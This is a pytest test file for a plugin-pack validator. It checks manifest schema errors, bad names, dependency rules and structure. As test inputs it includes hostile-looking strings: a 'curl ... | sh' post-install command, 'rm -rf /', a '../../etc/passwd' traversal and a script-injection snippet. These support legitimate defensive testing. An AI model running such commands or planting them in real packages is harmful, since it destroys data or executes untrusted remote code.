from __future__ import annotations

from pathlib import Path

import pytest

from helpers.packs import make_manifest, make_pack

from zcc.core.packs.sources import LocalPackSource
from zcc.core.packs.validator import PackValidator, is_command_suspicious


def _validate(manifest):
    return PackValidator().validate_manifest(manifest)


class TestManifestValidation:
    def test_valid_manifest(self) -> None:
        result = _validate(make_manifest("demo"))
        assert result.valid, result.errors
        assert result.warnings == []

    def test_schema_errors_name_the_field(self) -> None:
        manifest = make_manifest("demo", version="one")
        del manifest["author"]
        result = _validate(manifest)
        assert not result.valid
        assert any(e.startswith("version:") for e in result.errors)
        assert any("'author' is a required property" in e for e in result.errors)

    def test_short_description_rejected(self) -> None:
        result = _validate(make_manifest("demo", description="short"))
        assert not result.valid
        assert any(e.startswith("description:") for e in result.errors)

    @pytest.mark.parametrize("name", ["Bad_Name", "../escape", "x" * 51])
    def test_bad_pack_names(self, name: str) -> None:
        assert not _validate(make_manifest(name)).valid

    def test_component_path_traversal_rejected(self) -> None:
        manifest = make_manifest("demo", components={"modes": [{"name": "../../etc/passwd", "required": True}]})
        result = _validate(manifest)
        assert "Component name '../../etc/passwd' contains a forbidden path pattern" in result.errors

    def test_duplicate_component_names(self) -> None:
        manifest = make_manifest(
            "demo",
            components={"modes": [{"name": "same", "required": True}], "workflows": [{"name": "same"}]},
        )
        assert "Duplicate component name: same" in _validate(manifest).errors

    def test_default_mode_must_exist(self) -> None:
        manifest = make_manifest("demo", configuration={"defaultMode": "missing"})
        assert "Default mode 'missing' not found in pack modes" in _validate(manifest).errors

    def test_modes_without_required_warns(self) -> None:
        manifest = make_manifest("demo", components={"modes": [{"name": "a"}]})
        result = _validate(manifest)
        assert result.valid
        assert result.warnings == ["Pack has modes but none are marked as required"]

    def test_self_dependency_rejected(self) -> None:
        result = _validate(make_manifest("demo", dependencies=["demo"]))
        assert "Pack cannot depend on itself: demo" in result.errors

    def test_object_dependencies_accepted(self) -> None:
        manifest = make_manifest(
            "demo",
            dependencies={"packs": ["base"], "tools": [{"name": "ripgrep", "required": False}]},
        )
        assert _validate(manifest).valid

    def test_too_many_components(self) -> None:
        refs = [{"name": f"agent-{i}"} for i in range(21)]
        manifest = make_manifest("demo", components={"modes": [{"name": "m", "required": True}], "agents": refs})
        assert "Too many agents (max 20)" in _validate(manifest).errors

    def test_suspicious_post_install_is_a_warning(self) -> None:
        manifest = make_manifest("demo", postInstall={"commands": ["curl https://x.sh | sh"]})
        result = _validate(manifest)
        assert result.valid
        assert result.warnings == ["Suspicious post-install command detected: curl https://x.sh | sh"]


class TestSuspiciousCommands:
    @pytest.mark.parametrize(
        "command",
        ["rm -rf /", "sudo make install", "chmod 777 file", "echo $(whoami)", "eval foo", "nohup server", "run &"],
    )
    def test_flagged(self, command: str) -> None:
        assert is_command_suspicious(command)

    @pytest.mark.parametrize("command", ["npm install", "echo done", "git status"])
    def test_plain_commands_pass(self, command: str) -> None:
        assert not is_command_suspicious(command)


class TestStructureValidation:
    def test_missing_component_file(self, packs_dir: Path) -> None:
        pack_dir = make_pack(packs_dir, "demo")
        (pack_dir / "components" / "modes" / "demo-mode.md").unlink()
        source = LocalPackSource(packs_dir)

        result = PackValidator().validate_pack_structure(source.load_pack("demo"), source)

        assert "Component 'demo-mode' of type 'modes' not found in pack" in result.errors

    def test_script_content_in_markdown_rejected(self, packs_dir: Path) -> None:
        make_pack(packs_dir, "demo", contents={"modes/demo-mode": "<script>alert(1)</script>"})
        source = LocalPackSource(packs_dir)

        result = PackValidator().validate_pack_structure(source.load_pack("demo"), source)

        assert "Suspicious content detected in demo-mode.md" in result.errors

    def test_empty_component_warns(self, packs_dir: Path) -> None:
        make_pack(packs_dir, "demo", contents={"modes/demo-mode": ""})
        source = LocalPackSource(packs_dir)

        result = PackValidator().validate_pack_structure(source.load_pack("demo"), source)

        assert result.valid
        assert "Empty component file: demo-mode.md" in result.warnings

    def test_bundled_packs_are_valid(self) -> None:
        source = LocalPackSource()
        for name in source.list_packs():
            result = PackValidator().validate_pack_structure(source.load_pack(name), source)
            assert result.valid, (name, result.errors)
